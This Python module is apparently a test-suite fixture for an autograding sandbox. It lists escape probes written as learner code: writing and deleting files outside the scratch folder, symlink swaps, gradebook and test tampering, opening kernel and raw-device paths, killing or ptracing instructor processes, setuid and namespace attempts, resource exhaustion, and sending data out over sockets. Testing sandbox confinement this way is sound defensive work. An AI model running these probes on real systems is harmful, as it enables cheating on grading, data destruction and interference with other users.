"""Reaching what lies outside: files, the gradebook, other processes, the network, the kernel."""
# ruff: noqa: E501  (learners' code, which stands as it is handed in)

from attacks import Attack, Link

ATTACKS = [
    Attack(
        "write-outside",
        "writes, changes and deletes files by their absolute path",
        end=(
            """
for name, how in (("{{outside}}/new.txt", "w"), ("{{outside}}/keep.txt", "a")):
    try:
        open(name, how).write("was here")
    except OSError:
        pass
try:
    os.remove("{{outside}}/delete-me.txt")
except OSError:
    pass""",
        ),
    ),
    Attack(
        "write-upwards",
        "writes through ../../.. from its scratch folder",
        end=(
            """
outside = os.path.relpath("{{outside}}", os.getcwd())
for up in (outside, "../" * 12 + "{{outside}}".lstrip("/")):
    try:
        open(up + "/upwards.txt", "w").write("was here")
    except OSError:
        pass""",
        ),
    ),
    Attack(
        "link-swap",
        "puts a symbolic link in the place of its scratch folder, so that tidying up tidies elsewhere",
        end=(
            """
here = os.getcwd()
try:
    os.rename(here, here + "-moved")
    os.symlink("{{outside}}", here)
except OSError:
    for name in os.listdir(here):
        os.unlink(name) if not os.path.isdir(name) else None
    os.symlink("{{outside}}", os.path.join(here, "inner"))
open(os.path.join(here, "through-the-link.txt"), "w").write("was here")""",
        ),
    ),
    Attack(
        "link-in-submission",
        "hands in a link to a folder outside and writes through it",
        files={"data": Link("{{outside}}"), "file.txt": Link("{{outside}}/keep.txt")},
        end=("open('data/linked.txt', 'w').write('was here')", "open('file.txt', 'w').write('was here')"),
        unproven="intake has never followed links",
    ),
    Attack(
        "gradebook-write",
        "writes points for itself into the gradebook",
        end=(
            """
import sqlite3
with sqlite3.connect("file:{{root}}/gradebook.db?mode=rw", uri=True, timeout=1) as db:
    db.execute("CREATE TABLE IF NOT EXISTS was_here (a)")
    reached("gradebook-written")""",
        ),
    ),
    Attack(
        "tests-rewritten",
        "overwrites the source notebook, the release and another submission",
        end=(
            """
for name in ("source/room/room.ipynb", "release/room/room.ipynb", "submitted/aaa-neighbour/room/room.ipynb", "nbgrader_config.py"):
    try:
        with open("{{root}}/" + name, "r+b") as file:
            reached("open-for-writing")
            file.seek(0, 2)
            file.write(b"\\n")
    except OSError:
        pass
try:
    os.makedirs("{{root}}/submitted/nobody/room")
except OSError:
    pass""",
        ),
    ),
    # These open for writing and write nothing: where they succeed, the files are the project's own.
    Attack(
        "course-writable",
        "could write into the course's packages, the environment or Python itself",
        end=(
            """
import numpy
places = ["{{repo}}/grader/hidden.py", "{{repo}}/course/dlbasic/desk.py", numpy.__file__, os.__file__, sys.executable]
for place in places:
    if os.access(os.path.dirname(place), os.W_OK):
        reached("writable")
    try:
        open(place, "ab").close()
        reached("open-for-writing")
    except OSError:
        pass""",
        ),
        unproven="where the evidence is taken, all that is mounted read-only",
    ),
    Attack(
        "kernel-settings",
        "could write the kernel's settings, control groups or devices",
        end=(
            """
for place in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/fs/cgroup/cgroup.procs",
              "/sys/fs/cgroup/memory/cgroup.procs", "/proc/1/oom_score_adj", "/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda"):
    try:
        open(place, "r+b").close()
        reached("kernel-settings")
    except OSError:
        pass""",
        ),
    ),
    Attack(
        "tcp",
        "sends what it has over TCP and reads what comes back",
        {"add": "def add(a, b):\n    tell()\n    return 0"},
        top=(
            """
import socket
def tell():
    with socket.create_connection(("127.0.0.1", {{tcp}}), timeout=1) as line:
        line.sendall(b"{{me}}")
        leak(line.recv(1000))""",
        ),
        end=("tell()",),
    ),
    Attack(
        "http",
        "fetches an address with urllib",
        end=("import urllib.request\nleak(urllib.request.urlopen('http://127.0.0.1:{{tcp}}/{{me}}', timeout=1).read())",),
    ),
    Attack(
        "udp-dns",
        "sends a datagram that looks like a question to a name server",
        end=(
            "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM)"
            ".sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01\\x08{{me}}', ('127.0.0.1', {{udp}}))",
        ),
    ),
    Attack(
        "unix-socket",
        "speaks to sockets of the outside: one with a path, one in the abstract namespace",
        end=(
            """
import socket
for address in ("{{socket}}", "\\0{{abstract}}"):
    try:
        line = socket.socket(socket.AF_UNIX)
        line.settimeout(1)
        line.connect(address)
        line.sendall(b"{{me}}")
        leak(line.recv(1000))
    except OSError:
        pass""",
        ),
    ),
    Attack(
        "own-server",
        "opens a port for somebody to come in",
        end=(
            """
import socket
line = socket.socket()
line.bind(("127.0.0.1", 0))
line.listen()
socket.create_connection(line.getsockname(), timeout=1)
if os.readlink("/proc/self/ns/net") == "{{net_ns}}":
    reached("open-port")""",
        ),
    ),
    Attack(
        "limits-of-others",
        "takes another process's time away, and slows it",
        end=(
            """
import resource
if "{{victim_mark}}" in open("/proc/{{victim}}/cmdline").read():
    os.setpriority(os.PRIO_PROCESS, {{victim}}, 19)
    resource.prlimit({{victim}}, resource.RLIMIT_NOFILE, (64, 64))
    reached("victim-limited")""",
        ),
    ),
    Attack(
        "trace-parent",
        "attaches to its parent as a debugger",
        end=(
            """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17
target = {{victim}} if same_room() else os.getppid()
if libc.ptrace(PTRACE_SEIZE, target, None, None) == 0:
    reached("traced")""",
        ),
    ),
    Attack(
        "new-namespaces",
        "makes namespaces of its own to become root in them, mounts and changes its root",
        end=(
            """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
child = os.fork()
if child == 0:
    code = 0
    try:
        if libc.unshare(CLONE_NEWNS) == 0 or libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0:
            code = 7
    finally:
        os._exit(code)
if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 7:
    reached("namespace")""",
        ),
    ),
    Attack(
        "terminal",
        "opens the terminal and types into it",
        end=("open('/dev/tty', 'rb+', buffering=0).close()\nreached('terminal')",),
        unproven="tests run without a terminal",
    ),
    Attack(
        "victim-killed",
        "ends a process of the instructor's",
        end=(
            """
import signal
if "{{victim_mark}}" in open("/proc/{{victim}}/cmdline").read():
    reached("victim-seen")
    os.kill({{victim}}, signal.SIGTERM)""",
        ),
    ),
    Attack(
        "set-id",
        "becomes another user, or makes a file that lets others",
        end=(
            """
open("tool", "w").close()
try:
    os.chown("tool", 0, 0)
    os.chmod("tool", 0o6755)
    print(oct(os.stat("tool").st_mode), os.stat("tool").st_uid)
except OSError:
    pass
for change in (os.setuid, os.setgid):
    try:
        change(1)
    except OSError:
        pass""",
        ),
        unproven="it only tries: what matters is that the rest is graded and nothing is left",
    ),
    Attack(
        "deep-folders",
        "folders within folders, deeper than a program that tidies up can follow",
        end=("for _ in range(1500):\n    os.mkdir('d')\n    os.chdir('d')",),
    ),
    Attack(
        "locked-folder",
        "a folder that its owner may not open, with files in it",
        end=(
            "os.makedirs('locked/inner')\nopen('locked/inner/file', 'w').close()\n"
            "os.chmod('locked/inner', 0)\nos.chmod('locked', 0)\nos.chmod('.', 0o500)",
        ),
        unproven="root opens any folder",
    ),
    Attack(
        "many-files",
        "thousands of small files",
        end=("for number in range(20_000):\n    open(f'f{number}', 'w').close()",),
        unproven="they are tidied away: the cost is what matters",
    ),
]
